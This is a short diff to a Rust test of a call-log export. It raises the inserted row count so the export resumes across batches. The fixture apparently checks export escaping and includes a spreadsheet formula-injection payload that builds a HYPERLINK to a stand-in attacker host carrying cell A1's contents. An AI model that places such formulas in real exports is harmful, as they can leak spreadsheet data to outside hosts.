@@ -346,7 +346,8 @@ async fn export_streams_the_call_log_as_the_list_shows_it() {
     let key = app.org.secret_key.clone();
     let ann = client.create_agent("Ann", None).await.unwrap().id;
     let attack = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
-    insert_calls(&app, &org_id, &ann, 300, |i| match i {
+    // More than one of the export's batches (500 rows), so that it resumes after a cursor.
+    insert_calls(&app, &org_id, &ann, 640, |i| match i {
         7 => json!({ "note": attack }),
         8 => json!({ "quote": "she said \"hi\", then\nleft" }),
         _ => json!({ "n": i.to_string() }),
@@ -370,7 +371,7 @@ async fn export_streams_the_call_log_as_the_list_shows_it() {
         (now + chrono::Duration::minutes(1)).format("%Y-%m-%dT%H:%M:%SZ"),
     );
     let expected = listed(&app, &key, &window).await;
-    assert_eq!(expected.len(), 312);
+    assert_eq!(expected.len(), 652);
 
     // JSON Lines: the same calls, oldest first.
     let (status, headers, body) = raw(
